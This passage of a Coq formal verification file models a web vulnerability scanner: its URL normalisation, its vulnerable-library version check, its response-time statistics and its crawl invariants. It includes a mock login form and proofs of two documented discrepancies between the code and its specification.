Definition joined (st : CState) : bool := Nat.eqb (unfinished_tasks st) 0.

End Crawler.

(** ** The wording of the specification, where it differs from the code *)

Module Spec.





End Spec.

(** ** A login form on a server that answers every submission with a
    database error *)

Module FormDemo.
Import Scanner.

Definition login_html : string := "<form action=http://a.com/login method=post>".

Definition login_tag : FormTag :=
  mkFormTag (Some "http://a.com/login") (Some "POST")
    [mkInputTag (Some "text") (Some "user") (Some "guest");
     mkInputTag (Some "password") (Some "pass") None;
     mkInputTag (Some "submit") (Some "go") (Some "Log in")].


Definition error_page : Response :=
  mkResponse 200 tenth [("Content-Type", "text/html")]
             "You have an error in your SQL syntax".

Definition env : Env :=
  {| urljoin := fun base href => href;
     find_link_tags := fun _ => [];
     find_forms := fun html => if String.eqb html login_html then [login_tag] else [];
     cleaned_html := fun html => html;
     list_of_set := remove_dups;
     respond := fun _ ev =>
       match ev with
       | EvFetch _ => Ok (Demo.page login_html)
       | EvSubmit _ _ _ => Ok error_page
       | _ => RequestException
       end;
     analyze := fun _ _ _ _ => Some [];
     insecure_design := fun _ _ _ _ => Some [];
     access_control := fun _ _ => Some [] |}.


End FormDemo.

(** ** Two anchors to one page, crawled by the five threads of [WebCrawler] *)

Module CrawlDemo.
Import Crawler.

Definition base : string := "http://a.com/".

Definition env : CrawlEnv :=
  {| c_get := fun url =>
       if String.eqb url base
       then Some (Demo.page "<a href=/x> <a href=/x>")
       else Some (Demo.page "");
     c_forms := fun _ => [];
     c_probe := fun _ _ => [];
     c_anchors := fun html =>
       if String.eqb html "<a href=/x> <a href=/x>" then ["/x"; "/x"] else [];
     c_urljoin := fun url href => "http://a.com" ++ href;
     registered_domain := fun url => Urllib.netloc (Urllib.urlparse url) |}.

(** Thread 0 crawls the base page alone; then threads 0 and 1 take the two
    queued copies of [/x] and move in lock step. *)
Definition racy_schedule : list nat :=
  [0; 0; 0; 0; 0; 0;  0; 1;  0; 1;  0; 1;  0; 1;  0; 1;  0; 1]%nat.

End CrawlDemo.

(** ** What a scan may change

    The relations below say how far a run of [_scan_url] may move the
    scanner: [Frame] for the steps that leave the visit record alone,
    [Grows] for a crawl that visits new pages. *)

Module Inv.
Import Scanner.

(** The visited set, the URL list and counter of the statistics and the
    recorded links are as before. *)
Definition Frame (s s' : State) : Prop :=
  visited_urls s' = visited_urls s /\
  Stats.scanned_urls (stats s') = Stats.scanned_urls (stats s) /\
  Stats.total_urls_scanned (stats s') = Stats.total_urls_scanned (stats s) /\
  scanned_links s' = scanned_links s.


(** What [extract_links] lets through: a link with a scheme and a network
    location, both the same as the page's. *)
Definition InScope (link url : string) : Prop :=
  Utils.is_valid_url link = true /\ Utils.is_same_domain link url = true.

Section Grows.
Variable cfg : Config.
(** what is known of a link extracted from a page *)
Variable LinkOk : string -> string -> Prop.
(** a label of URLs that the crawl keeps constant *)
Variable B : string -> string.

(** From [s] to [s'] the crawl visited the URLs [new], each once and none
    visited before, recorded the links [newlinks], and stayed within the
    page budget. *)
Definition Grows (b : string) (s s' : State) : Prop :=
  exists (new : list string) (newlinks : list LinkData),
    Stats.scanned_urls (stats s') = (Stats.scanned_urls (stats s) ++ new)%list /\
    Stats.total_urls_scanned (stats s')
    = Stats.total_urls_scanned (stats s) + Z.of_nat (length new) /\
    visited_urls s' = list_to_set new ∪ visited_urls s /\
    NoDup new /\
    (forall u, u ∈ new -> u ∉ visited_urls s) /\
    (new <> [] -> Z.of_nat (size (visited_urls s')) <= max_pages cfg) /\
    scanned_links s' = (scanned_links s ++ newlinks)%list /\
    (forall u, u ∈ new -> B u = b) /\
    (forall l, l ∈ newlinks ->
               B (source_url l) = b /\ LinkOk (target_url l) (source_url l)).

End Grows.

(** A property of the state a step ends in, whether it returned or
    raised. *)
Definition StepOk (R : State -> State -> Prop) (s : State) (r : Step) : Prop :=
  match r with
  | Done s' => R s s'
  | Raised s' => R s s'
  | OutOfFuel => True
  end.

(** the step did not stop for lack of fuel *)
Definition Fuelled (r : Step) : Prop :=
  match r with
  | OutOfFuel => False
  | _ => True
  end.

End Inv.

(** * Properties *)

(** ** URL normalisation *)

Example normalize_x_slash :
  Utils.normalize_url "http://a.com/x/" = "http://a.com/x".
Proof. reflexivity. Qed.

Example normalize_x :
  Utils.normalize_url "http://a.com/x" = "http://a.com/x".
Proof. reflexivity. Qed.

Example normalize_query_fragment :
  Utils.normalize_url "HTTP://a.com/p/?q=1&r=2#top" = "http://a.com/p?q=1&r=2".
Proof. reflexivity. Qed.

Example normalize_root :
  Utils.normalize_url "http://a.com" = "http://a.com/"
  /\ Utils.normalize_url "http://a.com/" = "http://a.com/".
Proof. split; reflexivity. Qed.

(** ** Vulnerable components *)

Example jquery_0_5_not_flagged :
  Components.check_library_vulnerability "jquery" "0.5" = None.
Proof. reflexivity. Qed.

Example jquery_1_9_1_flagged :
  Components.check_library_vulnerability "jQuery" "1.9.1" = Some Components.jquery_info.
Proof. reflexivity. Qed.

Example jquery_1_9_flagged :
  Components.check_library_vulnerability "jquery" "1.9" = Some Components.jquery_info.
Proof. reflexivity. Qed.

(** A version that parses is reported as soon as it is not older than one
    listed version: the loop returns at the first such version. *)
Lemma scan_versions_not_older (vp vvp : list Z) (v : string) (listed : list string) :
  In v listed ->
  Components.version_parts v = Some vvp ->
  Components.is_older vp vvp = false ->
  Components.scan_versions vp listed = true.
Proof.
  induction listed as [|w ws IH]; simpl; [tauto|].
  intros [->|Hin] Hv Hold.
  - rewrite Hv, Hold. reflexivity.
  - destruct (Components.version_parts w) as [wp|]; [|auto].
    destruct (negb (Components.is_older vp wp)); auto.
Qed.

(** C6 (the code against the claim): jquery 1.9 is listed and is reported;
    jquery 99.0 is not listed, yet the component-wise comparison finds it
    not older than the listed version 1.0 and the check reports it as
    vulnerable too, although it is newer than every listed version. *)
Theorem jquery_99_0_flagged :
  Components.check_library_vulnerability "jquery" "1.9" = Some Components.jquery_info /\
  Py.str_in "99.0" (Components.versions Components.jquery_info) = false /\
  Components.version_parts "99.0" = Some [99; 0] /\
  Components.is_older [99; 0] [1; 0] = false /\
  Components.check_library_vulnerability "jquery" "99.0" = Some Components.jquery_info.
Proof. repeat split; reflexivity. Qed.

(** ** The statistics aggregator *)

Module StatsFacts.
Import Stats.

(** Comparison of binary64 values, through their specification. *)
Lemma SFcompare_opp (x y : spec_float) :
  SFcompare y x = option_map CompOpp (SFcompare x y).
Proof.
  destruct x as [sx|sx| |sx mx ex], y as [sy|sy| |sy my ey]; simpl;
    try reflexivity;
    try (destruct sx; reflexivity); try (destruct sy; reflexivity);
    try (destruct sx, sy; reflexivity).
  change (PosDef.Pos.compare_cont Eq my mx) with (Pos.compare my mx).
  change (PosDef.Pos.compare_cont Eq mx my) with (Pos.compare mx my).
  rewrite (Z.compare_antisym ex ey), (Pos.compare_antisym mx my).
  destruct sx, sy; simpl; try reflexivity;
    destruct (ex ?= ey)%Z; simpl; try reflexivity;
    destruct (mx ?= my)%positive; reflexivity.
Qed.

Lemma SFleb_refl (x : spec_float) : x <> S754_nan -> SFleb x x = true.
Proof.
  unfold SFleb. destruct x as [s|s| |s m e]; simpl; try congruence; intros _.
  - destruct s; reflexivity.
  - change (PosDef.Pos.compare_cont Eq m m) with (Pos.compare m m).
    rewrite Z.compare_refl, Pos.compare_refl. destruct s; reflexivity.
Qed.

Lemma SFltb_false_leb (x y : spec_float) :
  x <> S754_nan -> y <> S754_nan -> SFltb x y = false -> SFleb y x = true.
Proof.
  intros Hx Hy. unfold SFltb, SFleb. rewrite (SFcompare_opp x y).
  destruct (SFcompare x y) as [[]|] eqn:Hc; simpl; try congruence.
  destruct x, y; simpl in Hc; congruence.
Qed.

Lemma SFleb_trans (x y z : spec_float) :
  SFleb x y = true -> SFleb y z = true -> SFleb x z = true.
Proof.
  unfold SFleb.
  destruct x as [sx|sx| |sx mx ex], y as [sy|sy| |sy my ey], z as [sz|sz| |sz mz ez];
    simpl; try congruence;
    try (destruct sx; simpl; congruence);
    try (destruct sy; simpl; congruence);
    try (destruct sz; simpl; congruence);
    try (destruct sx, sy; simpl; congruence);
    try (destruct sx, sz; simpl; congruence);
    try (destruct sy, sz; simpl; congruence);
    try (destruct sx, sy, sz; simpl; congruence).
  all: change (PosDef.Pos.compare_cont Eq) with Pos.compare.
  all: destruct sx, sy, sz; simpl; try congruence.
  all: destruct (Z.compare_spec ex ey), (Z.compare_spec ey ez), (Z.compare_spec ex ez);
       try lia; simpl; try congruence; subst.
  all: destruct (Pos.compare_spec mx my), (Pos.compare_spec my mz), (Pos.compare_spec mx mz);
       simpl; try congruence; try lia.
Qed.

Lemma not_nan_spec (x : float) : PrimFloat.is_nan x = false -> Prim2SF x <> S754_nan.
Proof.
  unfold PrimFloat.is_nan. rewrite FloatAxioms.eqb_spec. intros H Hn.
  rewrite Hn in H. discriminate H.
Qed.

Lemma py_min_not_nan (a b : float) :
  PrimFloat.is_nan a = false -> PrimFloat.is_nan b = false ->
  PrimFloat.is_nan (py_min a b) = false.
Proof. unfold py_min. destruct (PrimFloat.ltb b a); auto. Qed.

Lemma py_max_not_nan (a b : float) :
  PrimFloat.is_nan a = false -> PrimFloat.is_nan b = false ->
  PrimFloat.is_nan (py_max a b) = false.
Proof. unfold py_max. destruct (PrimFloat.ltb a b); auto. Qed.

(** The smaller of two numbers is at most the second one ... *)
Lemma py_min_le (a b : float) :
  PrimFloat.is_nan a = false -> PrimFloat.is_nan b = false ->
  PrimFloat.leb (py_min a b) b = true.
Proof.
  intros Ha Hb. unfold py_min. destruct (PrimFloat.ltb b a) eqn:Hlt.
  - rewrite FloatAxioms.leb_spec. apply SFleb_refl, not_nan_spec, Hb.
  - rewrite FloatAxioms.ltb_spec in Hlt. rewrite FloatAxioms.leb_spec.
    apply SFltb_false_leb; auto using not_nan_spec.
Qed.

(** ... and the larger of two numbers is at least the second one. *)
Lemma py_max_ge (a b : float) :
  PrimFloat.is_nan a = false -> PrimFloat.is_nan b = false ->
  PrimFloat.leb b (py_max a b) = true.
Proof.
  intros Ha Hb. unfold py_max. destruct (PrimFloat.ltb a b) eqn:Hlt.
  - rewrite FloatAxioms.leb_spec. apply SFleb_refl, not_nan_spec, Hb.
  - rewrite FloatAxioms.ltb_spec in Hlt. rewrite FloatAxioms.leb_spec.
    apply SFltb_false_leb; auto using not_nan_spec.
Qed.

Lemma leb_trans (a b c : float) :
  PrimFloat.leb a b = true -> PrimFloat.leb b c = true -> PrimFloat.leb a c = true.
Proof. rewrite !FloatAxioms.leb_spec. apply SFleb_trans. Qed.

Lemma record_all_snoc (rs : list (Z * float)) (r : Z * float) (s : ScanStats) :
  record_all (rs ++ [r]) s = add_response (fst r) (snd r) (record_all rs s).
Proof. unfold record_all. rewrite fold_left_app. reflexivity. Qed.

Lemma record_all_requests (rs : list (Z * float)) (s : ScanStats) :
  total_requests (record_all rs s) = total_requests s + Z.of_nat (length rs).
Proof.
  revert s. induction rs as [|r rs IH]; intros s; simpl.
  - lia.
  - unfold record_all in *. simpl. rewrite IH. simpl. lia.
Qed.

Lemma record_all_bounds_not_nan (rs : list (Z * float)) (s : ScanStats) :
  no_nan rs ->
  PrimFloat.is_nan (min_response_time s) = false ->
  PrimFloat.is_nan (max_response_time s) = false ->
  PrimFloat.is_nan (min_response_time (record_all rs s)) = false /\
  PrimFloat.is_nan (max_response_time (record_all rs s)) = false.
Proof.
  revert s. induction rs as [|r rs IH]; intros s Hrs Hmin Hmax; [auto|].
  inversion Hrs as [|? ? Hr Hrs']; subst.
  unfold record_all in *. simpl. apply IH; simpl; auto using py_min_not_nan, py_max_not_nan.
Qed.

End StatsFacts.

(** C10 (the claim fails): three responses of a tenth of a second each give
    an average of 0.10000000000000002, above the maximum 0.1; the sum
    0.1 + 0.1 + 0.1 is rounded up, and so is its third. *)
Lemma three_tenths_avg_above_max :
  let s := Stats.record_all [(200, tenth); (200, tenth); (200, tenth)] Stats.init in
  Stats.total_requests s = 3 /\
  Stats.max_response_time s = tenth /\
  PrimFloat.ltb (Stats.max_response_time s) (Stats.avg_response_time s) = true /\
  ~ (PrimFloat.leb (Stats.min_response_time s) (Stats.avg_response_time s) = true /\
     PrimFloat.leb (Stats.avg_response_time s) (Stats.max_response_time s) = true).
Proof.
  vm_compute. repeat split; try reflexivity. intros [_ H]. discriminate H.
Qed.

(** C10 (as amended): after [n >= 1] responses with numeric times, the
    request count is [n], the average is the binary64 quotient of the total
    by the count, and the minimum is at most the maximum; the average
    itself is not promised to lie between them.  A fresh aggregator reports
    a minimum of plus infinity and an average and a maximum of zero. *)
Theorem response_metrics (rs : list (Z * float)) :
  rs <> [] ->
  Stats.no_nan rs ->
  let s := Stats.record_all rs Stats.init in
  (Stats.total_requests s = Z.of_nat (length rs) /\
   Stats.avg_response_time s
   = PrimFloat.div (Stats.total_response_time s) (Stats.float_of_Z (Stats.total_requests s)) /\
   PrimFloat.leb (Stats.min_response_time s) (Stats.max_response_time s) = true) /\
  Stats.get_summary_performance Stats.init = Stats.mkPerf 0%float infinity 0%float.
Proof.
  intros Hne Hnan. split; [|reflexivity].
  split; [|split].
  - rewrite StatsFacts.record_all_requests. simpl. lia.
  - destruct (exists_last Hne) as [rs' [r ->]].
    rewrite StatsFacts.record_all_snoc. reflexivity.
  - destruct (exists_last Hne) as [rs' [r ->]].
    rewrite StatsFacts.record_all_snoc. simpl.
    apply Forall_app in Hnan as [Hrs' Hr]. inversion Hr as [|? ? Hr' _]; subst.
    destruct (StatsFacts.record_all_bounds_not_nan rs' Stats.init Hrs') as [Hmin Hmax];
      try reflexivity.
    eapply StatsFacts.leb_trans.
    + apply StatsFacts.py_min_le; assumption.
    + apply StatsFacts.py_max_ge; assumption.
Qed.

Lemma response_metrics_witness :
  let rs := [(200, tenth); (404, 0x1p-1%float)] in
  let s := Stats.record_all rs Stats.init in
  (Stats.total_requests s = 2 /\
   Stats.avg_response_time s
   = PrimFloat.div (Stats.total_response_time s) (Stats.float_of_Z (Stats.total_requests s)) /\
   PrimFloat.leb (Stats.min_response_time s) (Stats.max_response_time s) = true) /\
  Stats.get_summary_performance Stats.init = Stats.mkPerf 0%float infinity 0%float.
Proof.
  apply (response_metrics [(200, tenth); (404, 0x1p-1%float)]).
  - discriminate.
  - repeat constructor.
Defined.

(** ** The header check *)

Module HeaderFacts.
Import Headers.




End HeaderFacts.

Module ScannerFacts.
Import Scanner.


End ScannerFacts.




Example header_case_insensitive :
  Headers.header_findings
    (mkResponse 200 tenth
       [("x-frame-options", "DENY"); ("X-CONTENT-TYPE-OPTIONS", "nosniff");
        ("x-xss-protection", "0"); ("content-security-policy", "default-src 'self'");
        ("strict-transport-security", "max-age=1"); ("REFERRER-POLICY", "no-referrer")] "")
  = [].
Proof. reflexivity. Qed.

(** ** Steps that leave the visit record alone *)

Module FrameFacts.
Import Scanner Inv.

Lemma frame_refl (s : State) : Frame s s.
Proof. repeat split. Qed.

Lemma frame_trans (s1 s2 s3 : State) : Frame s1 s2 -> Frame s2 s3 -> Frame s1 s3.
Proof.
  intros (A1 & A2 & A3 & A4) (B1 & B2 & B3 & B4).
  repeat split; congruence.
Qed.

Lemma frame_emit (e : Event) (s : State) : Frame s (emit e s).
Proof. repeat split. Qed.

Lemma frame_push_form (f : FormData) (s : State) : Frame s (push_form f s).
Proof. repeat split. Qed.

Lemma frame_add_error (t : string) (s : State) : Frame s (set_stats (Stats.add_error t) s).
Proof. repeat split. Qed.

Lemma frame_add_response (c : Z) (t : float) (s : State) :
  Frame s (set_stats (Stats.add_response c t) s).
Proof. repeat split. Qed.

Lemma frame_add_vulnerability (t url : string) (d : list (string * DetailValue)) (s : State) :
  Frame s (add_vulnerability t url d s).
Proof. repeat split. Qed.

Create HintDb frame.

#[local] Hint Resolve frame_refl frame_emit frame_push_form frame_add_error
  frame_add_response frame_add_vulnerability : frame.

Lemma frame_fold {A : Type} (f : State -> A -> State) (l : list A) (s : State) :
  (forall acc a, Frame acc (f acc a)) -> Frame s (fold_left f l s).
Proof.
  intros Hf. revert s. induction l as [|a l IH]; intros s; simpl.
  - apply frame_refl.
  - eapply frame_trans; [apply Hf | apply IH].
Qed.

Lemma frame_add_findings (url : string) (fs : list RawFinding) (s : State) :
  Frame s (add_findings url fs s).
Proof. apply frame_fold. intros; apply frame_add_vulnerability. Qed.

Section WithEnv.
Variable E : Env.
Variable cfg : Config.

Lemma frame_make_request_loop (attempts : list Z) (url : string) (s : State) :
  Frame s (snd (make_request_loop E cfg attempts url s)).
Proof.
  revert s. induction attempts as [|a rest IH]; intros s; simpl.
  - apply frame_refl.
  - destruct (respond E (trace s) (EvFetch url)); simpl; auto with frame.
    destruct (a =? max_retries cfg - 1); simpl; auto with frame.
    eapply frame_trans; [|apply IH].
    eapply frame_trans; apply frame_emit.
Qed.

Lemma frame_make_request (url : string) (s : State) :
  Frame s (snd (make_request E cfg url s)).
Proof. apply frame_make_request_loop. Qed.

Lemma frame_sql_loop (ps : list string) (form : Form) (url : string) (s : State) :
  Frame s (sql_loop E ps form url s).
Proof.
  revert s. induction ps as [|p ps IH]; intros s; simpl.
  - apply frame_refl.
  - eapply frame_trans; [|apply IH].
    destruct (respond E (trace s) _); auto with frame.
    destruct (Detect.is_vulnerable_to_sql_injection r p); auto with frame.
    eapply frame_trans; [apply frame_emit | apply frame_add_vulnerability].
Qed.

Lemma frame_xss_loop (ps : list string) (form : Form) (url : string) (s : State) :
  Frame s (xss_loop E ps form url s).
Proof.
  revert s. induction ps as [|p ps IH]; intros s; simpl.
  - apply frame_refl.
  - destruct (respond E (trace s) _).
    + destruct (Detect.is_vulnerable_to_xss E r p).
      * eapply frame_trans; [apply frame_emit | apply frame_add_vulnerability].
      * eapply frame_trans; [apply frame_emit | apply IH].
    + eapply frame_trans; [apply frame_emit | apply IH].
    + eapply frame_trans; [apply frame_emit | apply IH].
Qed.

Lemma frame_insecure_design_step (form : Form) (url : string) (s : State) :
  Frame s (insecure_design_step E cfg form url s).
Proof.
  unfold insecure_design_step.
  destruct (has_owasp_scanners cfg && scan_insecure_design cfg); [|apply frame_refl].
  destruct (respond E (trace s) _); auto with frame.
  destruct (insecure_design E _ url form r); auto with frame.
  eapply frame_trans; [apply frame_emit | apply frame_add_findings].
Qed.

Lemma frame_scan_form (form : Form) (url : string) (s : State) :
  Frame s (scan_form E cfg form url s).
Proof.
  unfold scan_form. destruct (f_inputs form); [apply frame_refl|].
  eapply frame_trans; [apply frame_sql_loop|].
  eapply frame_trans; [apply frame_insecure_design_step | apply frame_xss_loop].
Qed.

Lemma frame_forms_step (url : string) (response : Response) (s : State) :
  Frame s (forms_step E cfg url response s).
Proof.
  unfold forms_step. destruct (scan_forms cfg); [|apply frame_refl].
  apply frame_fold. intros acc f.
  eapply frame_trans; [apply frame_push_form | apply frame_scan_form].
Qed.

Lemma frame_headers_step (url : string) (response : Response) (s : State) :
  Frame s (headers_step cfg url response s).
Proof.
  unfold headers_step. destruct (scan_headers cfg);
    [apply frame_add_findings | apply frame_refl].
Qed.

Lemma frame_rate_limit_step (s : State) : Frame s (rate_limit_step cfg s).
Proof. unfold rate_limit_step. destruct (rate_limit cfg >? 0); auto with frame. Qed.

Lemma frame_run_analyzer (a : Analyzer) (url : string) (response : Response) (s : State) :
  StepOk Frame s (run_analyzer E cfg a url response s)
  /\ Fuelled (run_analyzer E cfg a url response s).
Proof.
  unfold run_analyzer. destruct (enabled cfg a); simpl; [|auto with frame].
  destruct (analyze E a (trace s) url response); simpl;
    auto using frame_add_findings with frame.
Qed.

Lemma frame_analyzers_step (l : list Analyzer) (url : string) (response : Response) (s : State) :
  StepOk Frame s (analyzers_step E cfg l url response s)
  /\ Fuelled (analyzers_step E cfg l url response s).
Proof.
  revert s. induction l as [|a l IH]; intros s; simpl; [auto with frame|].
  destruct (frame_run_analyzer a url response s) as [Hok Hfuel].
  destruct (run_analyzer E cfg a url response s) as [s1|s1|]; simpl in *; auto.
  destruct (IH s1) as [Hok' Hfuel']. split; [|exact Hfuel'].
  destruct (analyzers_step E cfg l url response s1); simpl in *; eauto using frame_trans.
Qed.

Lemma frame_check_broken_access_control (start_url : string) (s : State) :
  Frame s (check_broken_access_control E cfg start_url s).
Proof.
  unfold check_broken_access_control.
  destruct (negb (has_owasp_scanners cfg) || negb (scan_broken_access cfg));
    [apply frame_refl|].
  destruct (access_control E (trace s) start_url); [|apply frame_refl].
  apply frame_fold. intros; apply frame_add_vulnerability.
Qed.

End WithEnv.

End FrameFacts.

(** ** The crawl of [_scan_url] *)

Module CrawlFacts.
Import Scanner Inv FrameFacts Utils.

Lemma stepok_bind (R : State -> State -> Prop) (s : State) (r : Step) (f : State -> Step) :
  (forall a b c, R a b -> R b c -> R a c) ->
  StepOk R s r -> (forall s1, StepOk R s1 (f s1)) -> StepOk R s (bind r f).
Proof.
  intros Htrans Hr Hf. destruct r as [s1|s1|]; simpl in *; auto.
  specialize (Hf s1). destruct (f s1); simpl in *; eauto.
Qed.

Lemma stepok_pre (R : State -> State -> Prop) (s s0 : State) (r : Step) :
  (forall a b c, R a b -> R b c -> R a c) ->
  R s s0 -> StepOk R s0 r -> StepOk R s r.
Proof. intros Htrans H0. destruct r; simpl; eauto. Qed.

Lemma stepok_mono (R R' : State -> State -> Prop) (s : State) (r : Step) :
  (forall a b, R a b -> R' a b) -> StepOk R s r -> StepOk R' s r.
Proof. intros H. destruct r; simpl; auto. Qed.

Lemma fuelled_bind (r : Step) (f : State -> Step) :
  Fuelled r -> (forall s, Fuelled (f s)) -> Fuelled (bind r f).
Proof. destruct r; simpl; auto. Qed.

Lemma catch_fuelled (r : Step) : Fuelled r -> is_Some (catch r).
Proof. destruct r; simpl; eauto. contradiction. Qed.

Section WithEnv.
Variable E : Env.
Variable cfg : Config.
Variable LinkOk : string -> string -> Prop.
Variable B : string -> string.

Hypothesis extract_ok :
  forall html url x, x ∈ extract_links E html url -> LinkOk x url.
Hypothesis base_ok :
  forall link url,
    LinkOk link url -> is_same_domain link url = true -> B (normalize_url link) = B url.

Local Abbreviation Grows := (Inv.Grows cfg LinkOk B).

Lemma grows_frame (b : string) (s s' : State) : Frame s s' -> Grows b s s'.
Proof.
  intros (H1 & H2 & H3 & H4). exists [], []. rewrite H1, H2, H3, H4. simpl.
  rewrite !app_nil_r.
  repeat split; try (intros ? Hin; inversion Hin); try lia; try congruence;
    try match goal with H : _ ∈ [] |- _ => inversion H end.
  - set_solver.
  - constructor.
Qed.

Lemma grows_refl (b : string) (s : State) : Grows b s s.
Proof. apply grows_frame, frame_refl. Qed.

Lemma grows_trans (b : string) (s1 s2 s3 : State) :
  Grows b s1 s2 -> Grows b s2 s3 -> Grows b s1 s3.
Proof.
  intros (n1 & l1 & A1 & A2 & A3 & A4 & A5 & A6 & A7 & A8 & A9)
         (n2 & l2 & B1 & B2 & B3 & B4 & B5 & B6 & B7 & B8 & B9).
  exists (n1 ++ n2)%list, (l1 ++ l2)%list.
  split; [rewrite B1, A1, app_assoc; reflexivity|].
  split; [rewrite B2, A2, length_app; lia|].
  split; [rewrite B3, A3, list_to_set_app_L; set_solver|].
  split.
  { apply NoDup_app. split; [exact A4|]. split; [|exact B4].
    intros x Hx1 Hx2. apply (B5 x Hx2). rewrite A3. set_solver. }
  split.
  { intros u Hu. apply elem_of_app in Hu as [Hu|Hu]; [auto|].
    intros Hv. apply (B5 u Hu). rewrite A3. set_solver. }
  split.
  { intros Hne. destruct n2 as [|x n2].
    - rewrite B3. simpl. rewrite app_nil_r in Hne.
      replace (∅ ∪ visited_urls s2) with (visited_urls s2) by set_solver. auto.
    - apply B6. discriminate. }
  split; [rewrite B7, A7, app_assoc; reflexivity|].
  split.
  - intros u Hu. apply elem_of_app in Hu as [Hu|Hu]; auto.
  - intros l Hl. apply elem_of_app in Hl as [Hl|Hl]; auto.
Qed.

Lemma grows_visit (url : string) (s : State) :
  url ∉ visited_urls s ->
  Z.of_nat (size (visited_urls s)) < max_pages cfg ->
  Grows (B url) s (set_stats (Stats.add_url url) (add_visited url s)).
Proof.
  intros Hnew Hroom. exists [url], []. simpl. rewrite app_nil_r.
  repeat split; try lia.
  - set_solver.
  - apply NoDup_singleton.
  - intros u Hu. apply list_elem_of_singleton in Hu as ->. exact Hnew.
  - intros _. rewrite size_union by set_solver. rewrite size_singleton. lia.
  - intros u Hu. apply list_elem_of_singleton in Hu as ->. reflexivity.
  - inversion H.
  - inversion H.
Qed.

Lemma grows_push_link (url link : string) (s : State) :
  LinkOk link url -> Grows (B url) s (push_link (mkLinkData url link) s).
Proof.
  intros Hok. exists [], [mkLinkData url link]. simpl. rewrite app_nil_r.
  repeat split; try lia; try (intros ? Hin; inversion Hin; fail); try congruence.
  - set_solver.
  - constructor.
  - apply list_elem_of_singleton in H as ->. reflexivity.
  - apply list_elem_of_singleton in H as ->. exact Hok.
Qed.

Section Rec.
Variable rec_scan : string -> Z -> State -> option State.
Hypothesis rec_grows :
  forall link d s s', rec_scan link d s = Some s' -> Grows (B (normalize_url link)) s s'.

Lemma links_loop_grows (links : list string) (url : string) (depth : Z) (s : State) :
  (forall link, link ∈ links -> LinkOk link url) ->
  StepOk (Grows (B url)) s (links_loop rec_scan links url depth s).
Proof.
  revert s. induction links as [|link rest IH]; intros s Hok; simpl.
  - apply grows_refl.
  - assert (Hl : LinkOk link url) by (apply Hok; left).
    assert (Hrest : forall l, l ∈ rest -> LinkOk l url) by (intros l Hin; apply Hok; right; exact Hin).
    pose proof (grows_push_link url link s Hl) as Hpush.
    destruct (is_same_domain link url) eqn:Hdom.
    + destruct (rec_scan link (depth + 1) (push_link (mkLinkData url link) s)) as [s'|] eqn:Hrec;
        simpl; [|exact I].
      apply rec_grows in Hrec. rewrite (base_ok _ _ Hl Hdom) in Hrec.
      specialize (IH s' Hrest).
      destruct (links_loop rec_scan rest url depth s'); simpl in *;
        eauto using grows_trans.
    + specialize (IH (push_link (mkLinkData url link) s) Hrest).
      destruct (links_loop rec_scan rest url depth (push_link (mkLinkData url link) s));
        simpl in *;
        eauto using grows_trans.
Qed.

Lemma process_response_grows (url : string) (depth : Z) (response : Response) (s : State) :
  StepOk (Grows (B url)) s (process_response E cfg rec_scan url depth response s).
Proof.
  unfold process_response.
  set (s0 := set_stats _ s).
  assert (H0 : Grows (B url) s s0) by apply grows_frame, frame_add_response.
  destruct (Detect.is_error_response response).
  { simpl. eapply grows_trans; [exact H0|]. apply grows_frame, frame_add_error. }
  apply (stepok_pre (Grows (B url)) s s0); [apply grows_trans|exact H0|].
  apply (stepok_bind (Grows (B url))); [apply grows_trans| |intros s1; cbv beta].
  { eapply (stepok_mono Frame); [intros a b'; apply grows_frame|].
    apply frame_run_analyzer. }
  apply (stepok_bind (Grows (B url))); [apply grows_trans| |intros s2; cbv beta].
  { simpl. apply grows_frame, frame_forms_step. }
  apply (stepok_bind (Grows (B url))); [apply grows_trans| |intros s3; cbv beta].
  { unfold links_step. destruct (scan_links cfg); [|apply grows_refl].
    apply links_loop_grows. intros link Hin. eapply extract_ok, Hin. }
  apply (stepok_bind (Grows (B url))); [apply grows_trans| |intros s4; cbv beta].
  { simpl. apply grows_frame, frame_headers_step. }
  apply (stepok_bind (Grows (B url))); [apply grows_trans| |intros s5; cbv beta].
  { eapply (stepok_mono Frame); [intros a b'; apply grows_frame|].
    apply frame_analyzers_step. }
  simpl. apply grows_frame, frame_rate_limit_step.
Qed.

End Rec.

(** Every run of [_scan_url] that returns has visited new pages only, each
    once, within the page budget. *)
Lemma scan_url_grows (fuel : nat) (url : string) (depth : Z) (s s' : State) :
  scan_url E cfg fuel url depth s = Some s' -> Grows (B (normalize_url url)) s s'.
Proof.
  revert url depth s s'. induction fuel as [|fuel IH]; intros url depth s s'; simpl;
    [discriminate|].
  destruct (depth >? max_depth cfg); [intros [= <-]; apply grows_refl|].
  destruct (Z.of_nat (size (visited_urls s)) >=? max_pages cfg) eqn:Hroom;
    [intros [= <-]; apply grows_refl|].
  destruct (bool_decide (normalize_url url ∈ visited_urls s)) eqn:Hseen;
    [intros [= <-]; apply grows_refl|].
  apply bool_decide_eq_false in Hseen.
  assert (Hvisit := grows_visit (normalize_url url) s Hseen ltac:(lia)).
  set (s1 := set_stats _ (add_visited _ s)) in *.
  pose proof (frame_make_request E cfg (normalize_url url) s1) as Hreq.
  destruct (make_request E cfg (normalize_url url) s1) as [[[response|]|] s2];
    simpl in Hreq.
  - pose proof (process_response_grows (scan_url E cfg fuel) (IH)
                  (normalize_url url) depth response s2) as Hproc.
    destruct (process_response E cfg (scan_url E cfg fuel) _ depth response s2)
      as [s3|s3|]; simpl in *; intros [= <-].
    + eauto using grows_trans, grows_frame.
    + eapply grows_trans; [exact Hvisit|]. eapply grows_trans; [apply grows_frame, Hreq|].
      eapply grows_trans; [exact Hproc|]. apply grows_frame, frame_add_error.
  - intros [= <-]. eauto using grows_trans, grows_frame.
  - simpl. intros [= <-].
    eapply grows_trans; [exact Hvisit|]. eapply grows_trans; [apply grows_frame, Hreq|].
    apply grows_frame, frame_add_error.
Qed.

End WithEnv.

End CrawlFacts.

(** ** Termination of the crawl, and the crawl at the depth limit *)

Module DepthFacts.
Import Scanner Inv FrameFacts CrawlFacts Utils.




Section WithEnv.
Variable E : Env.
Variable cfg : Config.

Section Rec.
Variable rec_scan : string -> Z -> State -> option State.
Variable depth : Z.

Lemma links_loop_fuelled (links : list string) (url : string) (s : State) :
  (forall link s, is_Some (rec_scan link (depth + 1) s)) ->
  Fuelled (links_loop rec_scan links url depth s).
Proof.
  intros Hrec. revert s. induction links as [|link rest IH]; intros s; simpl; [exact I|].
  destruct (is_same_domain link url); [|apply IH].
  destruct (Hrec link (push_link (mkLinkData url link) s)) as [s' ->]. apply IH.
Qed.

Lemma process_response_fuelled (url : string) (response : Response) (s : State) :
